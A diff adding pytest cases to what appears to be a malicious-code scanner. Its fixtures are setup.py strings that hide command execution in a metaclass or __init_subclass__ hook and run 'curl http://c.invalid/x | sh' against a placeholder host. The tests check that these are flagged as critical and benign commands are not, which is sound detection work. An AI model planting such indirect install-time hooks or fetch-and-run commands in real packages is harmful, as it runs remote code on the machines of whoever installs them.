@@ -74,3 +74,19 @@ def test_what_a_task_of_ant_gets_and_another_one_runs_is_told(then: str, told: b
     text = GET.format(src="http://c.invalid/a", then=then)
     found = {one.id for one in look("build.xml", text, kind=Kind.XML) if isinstance(one, Behaviour)}
     assert ("chain.network-to-process" in found) == told
+
+
+MADE = "class Collected(type):\n    def {method}(mcs, name, bases, space):\n        for key, value in space.items():\n            if key.startswith('on_'):\n                mcs.resolve(value)(*space.get('args', ()))\n    @staticmethod\n    def resolve(text):\n        module, _, name = text.partition('/')\n        return getattr(__import__(module, fromlist=[name]), name)\nclass Hook(metaclass=Collected):\n    args = ({args},)\n    on_load = 'subprocess/getoutput'\n"
+TOLD = "import subprocess\nclass Base:\n    def __init_subclass__(cls, **words):\n        for key, value in vars(cls).items():\n            if key.startswith('on_'):\n                subprocess.getoutput(value)\nclass Hook(Base):\n    {name} = 'curl http://c.invalid/x | sh'\n"
+
+
+@pytest.mark.parametrize("method", ["__new__", "__init__"])
+def test_a_metaclass_runs_what_the_members_of_a_class_say(method: str) -> None:
+    loud, quiet = (MADE.format(method=method, args=args) for args in ("'curl http://c.invalid/x | sh'", "'git status'"))
+    assert weight({"setup.py": loud}, "process.piped") is Severity.CRITICAL
+    assert weight({"setup.py": quiet}, "process.piped") is None
+
+
+def test_a_parent_is_told_of_the_members_of_a_class() -> None:
+    assert weight({"setup.py": TOLD.format(name="on_load")}, "process.piped") is Severity.CRITICAL
+    assert weight({"setup.py": TOLD.format(name="example")}, "process.piped") is None
